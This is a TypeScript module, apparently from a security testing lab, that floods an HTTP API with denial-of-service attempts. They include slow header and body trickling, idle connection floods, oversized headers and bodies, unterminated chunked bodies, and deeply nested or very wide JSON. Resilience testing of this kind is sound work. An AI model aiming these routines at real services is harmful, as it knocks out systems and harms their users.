import { lookup } from 'node:dns/promises'
import { connect, type Socket } from 'node:net'
import { reasonOf } from '../errors.ts'
import { type AttackContext, type AttackRun, type Attempt, attemptAtRate } from './attack.ts'

const trickleMs = 200

/** `connections` are opened at once; each sends `first` once and then `trickle` again and again. */
type Kind = { connections?: number; first?: Buffer; trickle?: Buffer }

/**
 * Clients that open many connections, are too slow or send too much, and a logged-in user who sends JSON that is too deep
 * or too wide. The bytes are made once: making them anew would use up the lab's memory and time before the API's.
 */
export async function flood({ target, token }: AttackContext) {
  const { hostname, port } = new URL(target.url)
  const { address } = await lookup(hostname)
  const kinds = Object.entries(kindsOf(hostname, token))

  return (run: AttackRun) =>
    attemptAtRate(run, (number) => {
      const [what, kind] = kinds[number % kinds.length] as (typeof kinds)[number]
      const send = async (giveUp: AbortSignal) => {
        const signal = AbortSignal.any([giveUp, run.signal])
        const one = () => outcome(connect(Number(port || 80), address), kind, signal)
        const outcomes = await Promise.all(Array.from({ length: kind.connections ?? 1 }, one))
        return outcomes.find(({ status }) => status > 0) ?? outcomes.find(({ error }) => error) ?? { status: 0 }
      }
      return { what, send }
    })
}

function kindsOf(host: string, token: string): Record<string, Kind> {
  const bytes = (text: string) => Buffer.from(text)
  const post = (path: string, headers: string) =>
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n${headers}\r\n\r\n`
  const login = (headers: string) => post('/auth/login', headers)
  const note = (body: string) =>
    bytes(post('/data/notes', `Authorization: Bearer ${token}\r\nContent-Length: ${body.length}`) + body)
  const megabyte = 'a'.repeat(1 << 20)
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
  const wide = JSON.stringify(Object.fromEntries(Array.from({ length: 15_000 }, (_, i) => [`key${i}`, i])))
  return {
    'a hundred connections that say nothing': { connections: 100 },
    'headers one by one': { first: bytes('GET /health HTTP/1.1\r\n'), trickle: bytes('X-Slow: 1\r\n') },
    'a body byte by byte': { first: bytes(login('Content-Length: 10000')), trickle: bytes(' ') },
    'headers of a megabyte': { first: bytes(`GET /health HTTP/1.1\r\nHost: a\r\nX-Large: ${megabyte}\r\n\r\n`) },
    'a body of 100 MB': {
      first: bytes(login('Content-Length: 100000000') + megabyte),
      trickle: bytes(megabyte.slice(0, 1 << 16)),
    },
    'a body without an end': {
      first: bytes(`${login('Transfer-Encoding: chunked')}100000\r\n${megabyte}\r\n`),
      trickle: bytes('1'),
    },
    'JSON 100,000 deep': { first: note(deep) },
    'JSON 15,000 wide': { first: note(wide) },
  }
}

/** The status of the first answer when the connection or the signal is over; 0 without one, and why. */
function outcome(
  socket: Socket,
  { first, trickle }: Kind,
  signal: AbortSignal,
): Promise<Pick<Attempt, 'status' | 'error'>> {
  return new Promise((resolve) => {
    let status = 0
    let error: string | undefined
    if (first) socket.write(first)
    // One write at a time: bytes that the API does not read must not pile up here.
    const send = () => socket.writableLength === 0 && socket.write(trickle ?? '')
    const timer = trickle && setInterval(send, trickleMs)
    const end = () => socket.destroy()
    signal.addEventListener('abort', end, { once: true })
    if (signal.aborted) end() // the attempt was due at the last moment
    socket.on('data', (chunk) => {
      status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 0)
      // The API answered and kept the connection open.
      if (trickle === undefined) socket.end()
    })
    socket.on('error', (reason) => (error = reasonOf(reason)))
    socket.on('close', () => {
      clearInterval(timer)
      signal.removeEventListener('abort', end)
      resolve({ status, error: status === 0 ? error : undefined })
    })
  })
}
